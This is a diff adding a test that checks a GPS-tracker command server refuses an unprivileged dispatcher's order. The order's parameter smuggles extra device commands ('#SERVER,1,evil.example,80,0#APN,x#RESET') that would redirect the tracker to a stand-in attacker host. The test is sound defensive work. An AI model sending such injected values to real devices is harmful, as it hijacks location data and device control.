@@ -77,6 +77,34 @@ describeOnEachDatabase('a cut that its requester may not make never reaches the 
     expect(await world.orders()).toBe(before)
   })
 
+  test('a value that brings another command takes the right to write, at once, in bulk and held', async () => {
+    const params = ['1', '2', '3#SERVER,1,evil.example,80,0#APN,x#RESET']
+    const order = { ...SOS, params } as const
+    const mere = await world.person('dispatcher')
+    const { deviceId } = world
+    const problem = 'may_not_write'
+    const before = await world.orders()
+    const rows = await db().command.count()
+    expect(await orderCommand(mere, world.request(order))).toMatchObject({ problem })
+    for (const holdHours of [undefined, 24] as const) {
+      const wish = { deviceIds: [deviceId], order, confirmed: true, holdHours }
+      expect(await orderBulk(mere.viewer, wish)).toEqual({ ok: false, problem })
+    }
+    await world.tell({ online: false })
+    expect(await orderCommand(mere, world.request(order, { holdHours: 24 }))).toMatchObject({ problem })
+    expect(await db().command.count()).toBe(rows)
+    // Nor does one leave that was written down before.
+    await world.tell()
+    const text = `SOS,A,${params.join()}#`
+    const said = { deviceId, batchId: null, reason: null, typedPlate: null, at: new Date() }
+    const row = { ...said, order, text, kind: 'other' as const, expiresAt: new Date(Date.now() + 60_000) }
+    for (const state of ['ready', 'waiting'] as const)
+      expect(await fireCommand(mere, await insertCommand(mere.viewer, { ...row, state }))).toMatchObject({
+        problem,
+      })
+    expect(await world.orders()).toBe(before)
+  })
+
   test('no other way of the server takes an order to the vendor', async () => {
     const before = await world.orders()
     const { imei } = world
